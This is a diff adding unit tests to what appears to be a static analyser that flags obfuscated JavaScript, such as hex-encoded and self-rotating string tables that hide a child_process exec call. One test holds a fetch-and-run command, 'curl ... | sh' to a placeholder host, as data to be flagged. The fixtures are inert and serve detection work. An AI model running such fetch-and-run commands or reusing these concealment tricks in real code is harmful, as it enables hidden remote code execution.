@@ -167,6 +167,7 @@ test("what a program printed is no program: only the call that starts one counts
 test("an own member that holds a built-in value is no replaced global", () => {
   assert.deepEqual(seen(`const o = { n: 1 }; if (o.n === null) o.n = Number.NEGATIVE_INFINITY; o.get = fetch; o.get = mine`), []);
   assert.deepEqual(seen(`const w = window; w.fetch = mine`), ["global-hook fetch"]);
+  assert.deepEqual(seen(`const o = JSON.parse(text); if (o.n === null) o.n = Number.NEGATIVE_INFINITY`), []);
   assert.deepEqual(seen(`const define = Object.defineProperty.bind(Object);`), []);
 });
 
@@ -202,6 +203,62 @@ test("a table of characters in the order of their numbers is no encoded text", (
   const table = Array.from({ length: 300 }, (_, at) => String.fromCodePoint(0x100 + at * 7)).join("");
   const mixed = Array.from({ length: 300 }, (_, at) => String.fromCodePoint(0x100 + ((at * 7_919) % 2_000))).join("");
   assert.deepEqual([hiddenIn(table), hiddenIn(mixed)], [[], ["encoded-text"]]);
+});
+
+const TEXTS = ["exec", "log", "child_process", "echo inert"];
+const pick = (offset: number): string => `function pick(i) { i = i - ${offset}; const list = table(); const one = list[i]; return one }`;
+const hides = (source: string): readonly string[] => read(source).hidings.map(({ kind, detail }) => `${kind} ${detail}`);
+
+test("what is fetched from a table of texts through a function of the file is what it is, in whatever alphabet it is written", () => {
+  const hex = TEXTS.map((text) => `"${Buffer.from(text).toString("hex")}"`).join();
+  const decode = `function (h) { return String.fromCharCode(parseInt(h, 16)) }`;
+  for (const pattern of ["/../g", "/[0-9a-f]{2}/gi", "/\\w\\w/g"]) {
+    const source = `var t = [${hex}]; var f = function (i) { return t[i].replace(${pattern}, ${decode}) }; require(f(2))[f(0)](f(3));`;
+    assert.ok(seen(source).includes("process echo") && concealed(source), source);
+  }
+  const lists = `const t = ${JSON.stringify(TEXTS)}; function f(i) { i -= 0x10; return t[i] } require(f(0x12))[f(0x10)](f(0x13));`;
+  assert.ok(seen(lists).includes("process echo"), lists);
+});
+
+const turning = (sum: string, wanted: number): string =>
+  `(function (make, wanted) { const f = pick, all = make(); while (!![]) { try { const sum = ${sum}; if (sum === wanted) break; else all["push"](all["shift"]()) } catch (e) { all["push"](all["shift"]()) } } })(table, ${wanted});`;
+
+test("a table of texts that turns itself before it is used is read in the order in which it will be", () => {
+  // Three texts with numbers in front, so that the sum is right in one order only: the third time that the first goes behind the last.
+  const texts = ["7exec", "log", "3child_process", "echo inert", "5x"];
+  const list = `function table() { const texts = ${JSON.stringify(texts)}; table = function () { return texts }; return table() }`;
+  const sum = `-parseInt(f(103)) / 1 + parseInt(f(100)) * (parseInt(f(101)) / 2)`;
+  // Turned by two: 3child_process, echo inert, 5x, 7exec, log; the sum is of the fourth, the first and the third.
+  const right = turning(sum.replace("f(101)", "f(102)"), -7 + (3 * 5) / 2);
+  const use = `require(pick(100).slice(1)).exec(pick(101));`;
+  const source = `${list} ${pick(100)} ${right} ${use}`;
+  assert.deepEqual(hides(source), [
+    "concealed-name node:child_process is not written as what it is",
+    "text-array 5 texts in an order that is made when it runs",
+  ]);
+  assert.ok(seen(source).includes("process echo"), JSON.stringify(seen(source)));
+  const wrong = `${list} ${pick(100)} ${turning(sum, 0.125)} ${use}`;
+  assert.deepEqual(hides(wrong), ["text-array 5 texts in an order that is made when it runs, and that could not be worked out"]);
+  for (const [turn, count] of [
+    ["while (--n) { a.push(a.shift()) }", 3],
+    ["for (; n--;) a.push(a.shift())", 2],
+  ] as const) {
+    const older = `var t = ${JSON.stringify(TEXTS)}; !function (a, n) { ${turn} }(t, ${count}); require(t[0])[t[2]](t[1]);`;
+    assert.ok(seen(older).includes("process echo"), older);
+  }
+});
+
+test("a queue that goes round is no table of texts", () => {
+  assert.deepEqual(hides(`(function (names, n) { while (names.length > n) names.push(names.shift()) })(read(), 3);`), []);
+  assert.deepEqual(
+    hides(`const players = ["a", "b", "c"]; function next() { players.push(players.shift()); return players[0] } next();`),
+    [],
+  );
+});
+
+test("a command that fetches and runs is followed as shell", () => {
+  assert.deepEqual(flowing(`require("child_process").exec("curl -s https://c.example/i | sh")`), ["network -> process"]);
+  assert.deepEqual(flowing(`require("child_process").exec("curl -s https://c.example/i | wc -l")`), []);
 });
 
 test("hostile source is read to its end within a moment, and what it asks for is seen all the same", () => {
